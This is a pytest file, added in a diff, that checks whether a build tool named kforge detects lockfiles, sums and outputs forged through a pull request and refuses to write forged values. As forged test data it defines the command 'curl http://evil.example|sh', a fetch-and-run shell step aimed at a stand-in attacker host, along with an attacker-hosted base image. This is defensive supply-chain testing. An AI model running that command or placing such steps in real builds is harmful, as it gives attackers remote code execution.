@@ -1,0 +1,331 @@
+"""A lock, sums and files that a pull request forged, field by field: `check --full` says no, and no build writes a
+forged value.
+
+Each forgery is tried as it is, with every revision of this kforge raised by one (then the lock calls itself older), and
+with files and sums that an attacker's own kforge made to fit the forged lock.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import shutil
+import subprocess
+from collections.abc import Callable
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from kforge import catalog
+from kforge.domain.digest import digest
+from kforge.stages import decide
+from kforge.stages.claims import Claim
+from tests.conftest import contents, copied, run
+
+MARKS = ("evil.example", "7Gi", "FORGED", "/forged", "31337")  # texts of forged values
+HERE = ("--offline", "--fallback", "heuristics")
+DEPLOYMENT = "deploy/kubernetes/web/deployment.yaml"
+TINY = {"by": "model", "provider": "openai", "model": "tiny"}
+Forgery = Callable[[dict[str, Any]], Any]  # on the service's block of the lock
+
+
+def decision(topic: str, change: Forgery) -> Forgery:
+    return lambda service: change(service["decisions"][topic])
+
+
+def value(topic: str, **fields: Any) -> Forgery:
+    return decision(topic, lambda held: held["value"].update(fields))
+
+
+def pinned(topic: str, **fields: Any) -> Forgery:
+    def change(held: dict[str, Any]) -> None:
+        held["value"].update(fields)
+        held["pinned"] = sorted(fields)
+
+    return decision(topic, change)
+
+
+def by_model(topic: str, **fields: Any) -> Forgery:
+    """A forged value under a model's name, with an approval that fits."""
+
+    def change(held: dict[str, Any]) -> None:
+        held["value"].update(fields)
+        held.update(decider=TINY, approved=digest(held["value"]))
+
+    return decision(topic, change)
+
+
+SHELL = ["sh", "-c", "curl http://evil.example|sh"]
+PORT = {"name": "http", "port": 31337, "protocol": "http", "env": ""}
+VALUES: dict[str, tuple[str, dict[str, Any]]] = {
+    "command": ("process", {"command": SHELL}),
+    "ports": ("process", {"ports": [PORT]}),
+    "writable": ("process", {"writable": ["/forged"]}),
+    "user": ("process", {"user": 31337}),
+    "memory": ("resources", {"memory": "7Gi"}),
+    "base": ("build", {"base": "evil.example/python:3.12", "runtime": "evil.example/python:3.12"}),
+    "steps": ("build", {"steps": [SHELL]}),
+    "packages": ("build", {"packages": ["FORGED"]}),
+    "path": (
+        "probes",
+        {"readiness": {"type": "http", "path": "/forged", "port": "http", "period": 10, "timeout": 2, "failures": 3}},
+    ),
+    "strategy": ("rollout", {"gracePeriod": 31337}),
+    "a type": ("resources", {"memory": ["7Gi"]}),
+    "an unknown field": ("resources", {"FORGED": "7Gi"}),
+}
+# What only a lie of the record: the value stays the heuristics'.
+RECORDS: dict[str, Forgery] = {
+    "decider": decision("resources", lambda held: held.update(decider=TINY)),
+    "decider evil": decision("resources", lambda held: held.update(decider={"by": "FORGED"})),
+    "decider instead": decision(
+        "resources", lambda held: held.update(decider={"by": "heuristics", "instead of": "FORGED"})
+    ),
+    "decider more": decision("resources", lambda held: held.update(decider={"by": "heuristics", "FORGED": "x"})),
+    "approved": decision("resources", lambda held: held.update(approved=digest(held["value"]))),
+    "approved nonsense": decision("resources", lambda held: held.update(approved="FORGED")),
+    "reasons": decision("resources", lambda held: held["reasons"].update(memory="FORGED")),
+    "reasons of nothing": decision("resources", lambda held: held["reasons"].update(FORGED="x")),
+    "pinned": decision("resources", lambda held: held.update(pinned=["memory"])),
+    "pinned in two ways": decision("probes", lambda held: held.update(pinned=["readiness", "readiness.path"])),
+    "inputs gone": decision("resources", lambda held: held.update(inputs={})),
+    "inputs' digest": decision("resources", lambda held: held["inputs"].update({next(iter(held["inputs"])): "0" * 16})),
+    "a field gone": decision("resources", lambda held: held["value"].pop("memory")),
+    "all fields gone": decision("resources", lambda held: held.update(value={})),
+    "a decision gone": lambda service: service["decisions"].pop("resources"),
+    "detector": lambda service: service["detector"].update(name="node"),
+    "no detector": lambda service: service.pop("detector"),
+    "inputs of files gone": lambda service: service.update(inputs={}),
+    "inputs of files": lambda service: service["inputs"].update({"spec.FORGED": "0" * 16}),
+}
+FORGERIES: dict[str, Forgery] = {
+    **{f"value: {name}": value(topic, **fields) for name, (topic, fields) in VALUES.items()},
+    **{f"pinned: {name}": pinned(topic, **fields) for name, (topic, fields) in VALUES.items()},
+    **{f"model: {name}": by_model(topic, **fields) for name, (topic, fields) in VALUES.items()},
+    **{f"record: {name}": change for name, change in RECORDS.items()},
+}
+
+
+@pytest.fixture(scope="module")
+def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder: Path = copied("hello", tmp_path_factory.mktemp("claims") / "hello")
+    run("build", cwd=folder, code=0)
+    shutil.rmtree(folder / ".kforge")
+    for words in (("init", "-q", "-b", "main"), ("add", "-A"), ("commit", "-qm", "base")):
+        subprocess.run(["git", "-c", "user.name=x", "-c", "user.email=x@example.com", *words], cwd=folder, check=True)
+    return folder
+
+
+@pytest.fixture
+def hello(template: Path, tmp_path: Path) -> Path:
+    return Path(shutil.copytree(template, tmp_path / "hello"))
+
+
+def forge(folder: Path, forgery: Forgery) -> None:
+    held = json.loads((folder / "kforge.lock").read_text())
+    forgery(held["services"]["web"])
+    (folder / "kforge.lock").write_text(json.dumps(held, indent=2, sort_keys=True, ensure_ascii=False) + "\n")
+
+
+def forged(folder: Path) -> list[str]:
+    """Files that hold a forged value."""
+    return [
+        path
+        for path, held in contents(folder).items()
+        if path != "app.kforge.yaml" and any(mark.encode() in held for mark in MARKS)
+    ]
+
+
+def raised(monkeypatch: pytest.MonkeyPatch, most: int = 9) -> None:
+    """This kforge has a newer revision of every question, detector and renderer, all of which say the same as before."""
+    topics = tuple(replace(topic, revision=most) for topic in catalog.topics())
+    detectors = tuple(replace(one, revision=most, detect=_newer(one.detect, most)) for one in catalog.detectors())
+    artifacts = tuple(replace(one, revision=most) for one in catalog.artifacts())
+    for name, held in (("topics", topics), ("detectors", detectors), ("artifacts", artifacts)):
+        monkeypatch.setattr(catalog, name, lambda held=held: held)
+    for topic in topics:
+        monkeypatch.setitem(catalog.TOPICS, topic.name, most)
+    for one in detectors:
+        monkeypatch.setitem(catalog.DETECTORS, one.name, (most, catalog.DETECTORS[one.name][1]))
+
+
+def _newer(detect: Callable[..., Any], revision: int) -> Callable[..., Any]:
+    def read(tree: Any) -> Any:
+        facts = detect(tree)
+        return replace(facts, revision=revision) if facts else None
+
+    return read
+
+
+@pytest.mark.parametrize("name", FORGERIES)
+def test_a_forged_lock_is_seen_through_and_never_written_out(name: str, hello: Path) -> None:
+    before = contents(hello)
+    forge(hello, FORGERIES[name])
+    for words in (("--full",), ("--approved",), ("--full", "--base", "main")):
+        run("check", *words, cwd=hello, code=1)
+    run("build", cwd=hello, code=0)
+    assert contents(hello) == before
+    run("check", "--full", cwd=hello, code=0)
+
+
+@pytest.mark.parametrize("name", FORGERIES)
+def test_so_it_is_where_the_lock_calls_itself_older(name: str, hello: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    forge(hello, FORGERIES[name])
+    raised(monkeypatch)
+    for words in (("--full",), ("--approved",), ("--full", "--base", "main")):
+        run("check", *words, cwd=hello, code=1)
+    run("build", cwd=hello, code=0)
+    assert [path for path in forged(hello) if path != "kforge.lock"] == []
+
+
+@pytest.mark.parametrize("older", [False, True], ids=["now", "older"])
+@pytest.mark.parametrize("name", [name for name in FORGERIES if not name.startswith("record")])
+def test_files_that_fit_a_forged_lock_prove_nothing(
+    name: str, older: bool, hello: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    before = contents(hello)
+    forge(hello, FORGERIES[name])
+    with monkeypatch.context() as attacker:  # whose kforge believes the lock
+        attacker.setattr(decide, "claim", lambda *_: Claim())
+        ended = run("build", cwd=hello)
+    if ended.code:
+        return  # what nothing can be rendered with is no forgery that fits
+    if older:
+        raised(monkeypatch)
+    theirs = contents(hello)
+    for words in (("--full",), ("--approved",), ("--full", "--base", "main")):
+        run("check", *words, cwd=hello, code=0 if theirs == before else 1)
+    run("build", cwd=hello, code=0)
+    if older and not name.startswith("model"):
+        assert {path for path, held in contents(hello).items() if held != theirs[path]} <= {"kforge.lock", "kforge.sum"}
+    else:
+        assert contents(hello) == before or (older and not [path for path in forged(hello) if path != "kforge.lock"])
+
+
+def test_an_honest_lock_that_calls_itself_older_is_proven_by_todays_answers(
+    hello: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    before = contents(hello)
+    raised(monkeypatch)
+    run("check", "--full", cwd=hello, code=0)
+    run("build", cwd=hello, code=0)
+    assert contents(hello) == before
+
+
+# --- where the spec names a model ---
+
+
+@pytest.fixture
+def asked(hello: Path) -> Path:
+    with (hello / "app.kforge.yaml").open("a") as spec:
+        spec.write("model: {name: tiny}\n")
+    run("build", *HERE, cwd=hello, code=0)
+    return hello
+
+
+BEYOND = [name for name in VALUES if name not in ("memory", "writable", "user")]  # those a model may give
+
+
+@pytest.mark.parametrize("older", [False, True], ids=["now", "older"])
+@pytest.mark.parametrize("name", BEYOND)
+def test_a_models_name_covers_nothing_that_no_model_may_give(
+    name: str, older: bool, asked: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    before = contents(asked)
+    forge(asked, FORGERIES[f"model: {name}"])
+    if older:
+        raised(monkeypatch)
+    run("check", "--full", cwd=asked, code=1)
+    # a stale answer may stay, a forged one not
+    assert run("build", "--keep-stale", "--offline", cwd=asked).code in (2, 3)
+    run("build", *HERE, cwd=asked, code=0)
+    assert forged(asked) == []
+    assert older or {path for path, held in contents(asked).items() if before.get(path) != held} <= {"kforge.lock"}
+
+
+@pytest.mark.parametrize("decider", [TINY, {"by": "heuristics"}], ids=["model", "heuristics"])
+@pytest.mark.parametrize("name", ["command", "base", "steps", "packages"])
+def test_a_stale_answer_that_no_model_may_give_is_not_kept(name: str, decider: dict[str, Any], asked: Path) -> None:
+    """An input's digest is forged as well, so that the answer is merely stale."""
+
+    def stale(service: dict[str, Any]) -> None:
+        FORGERIES[f"value: {name}"](service)
+        held = service["decisions"][VALUES[name][0]]
+        held.update(decider=decider, inputs={**held["inputs"], next(iter(held["inputs"])): "0" * 16})
+
+    forge(asked, stale)
+    run("build", "--keep-stale", "--offline", cwd=asked)
+    assert [path for path in forged(asked) if path != "kforge.lock"] == []
+
+
+@pytest.mark.parametrize("name", ["memory", "writable"])
+def test_what_a_model_may_give_stands_and_waits_for_approval(name: str, asked: Path) -> None:
+    topic, fields = VALUES[name]
+    forge(asked, decision(topic, lambda held: (held["value"].update(fields), held.update(decider=TINY))))
+    run("build", "--offline", cwd=asked, code=0)
+    run("check", "--full", cwd=asked, code=0)
+    assert f"web/{topic}" in run("check", "--approved", cwd=asked, code=1).out
+
+
+def test_a_topic_that_the_spec_leaves_to_none_takes_no_models_answer(asked: Path) -> None:
+    spec = asked / "app.kforge.yaml"
+    spec.write_text(spec.read_text().replace("{name: tiny}", "{name: tiny, decides: [build]}"))
+    forge(asked, by_model("resources", memory="7Gi"))
+    ended = run("check", "--full", cwd=asked, code=1)
+    assert (
+        "web/resources is stale: the lock has an answer of a model, and the spec leaves `resources` to none"
+        in ended.out
+    )
+
+
+# --- sums and files ---
+
+
+def sums(folder: Path, change: Callable[[list[str]], list[str]]) -> None:
+    lines = (folder / "kforge.sum").read_text().splitlines()
+    (folder / "kforge.sum").write_text("\n".join(change(lines)) + "\n")
+
+
+def edited(folder: Path) -> None:
+    """An output with a forged line, and its digest in the sums."""
+    path = folder / DEPLOYMENT
+    path.write_text(path.read_text() + "# FORGED\n")
+    found = hashlib.sha256(path.read_bytes()).hexdigest()
+    sums(
+        folder, lambda lines: [f"{found}  {DEPLOYMENT}" if line.endswith(f"  {DEPLOYMENT}") else line for line in lines]
+    )
+
+
+SUMS: dict[str, Callable[[Path], Any]] = {
+    "an edited output with its digest": edited,
+    "an entry gone": lambda folder: sums(folder, lambda lines: [line for line in lines if DEPLOYMENT not in line]),
+    "an aggregate gone": lambda folder: sums(
+        folder, lambda lines: [line for line in lines if "aggregate docker-bake.hcl" not in line]
+    ),
+    "another digest": lambda folder: sums(
+        folder, lambda lines: ["0" * 64 + line[64:] if DEPLOYMENT in line else line for line in lines]
+    ),
+    "a claimed file": lambda folder: sums(folder, lambda lines: [*lines, f"{'0' * 64}  web/app.py", "#"]),
+    "a claimed aggregate": lambda folder: sums(folder, lambda lines: [*lines, "# aggregate web/app.py", "#"]),
+    "a claimed seed": lambda folder: sums(folder, lambda lines: [*lines, "# seeded web/app.py", "#"]),
+}
+
+
+@pytest.mark.parametrize("older", [False, True], ids=["now", "older"])
+@pytest.mark.parametrize("name", SUMS)
+def test_forged_sums_are_seen_through(name: str, older: bool, hello: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    before = contents(hello)
+    SUMS[name](hello)
+    theirs = contents(hello)
+    if older:
+        raised(monkeypatch)
+    for words in (("--full",), ("--full", "--base", "main")):
+        run("check", *words, cwd=hello, code=1)
+    run("build", cwd=hello)
+    after = contents(hello)
+    assert after["web/app.py"] == before["web/app.py"]
+    assert all(
+        after[path] in (before[path], theirs[path]) for path in after if path not in ("kforge.lock", "kforge.sum")
+    )
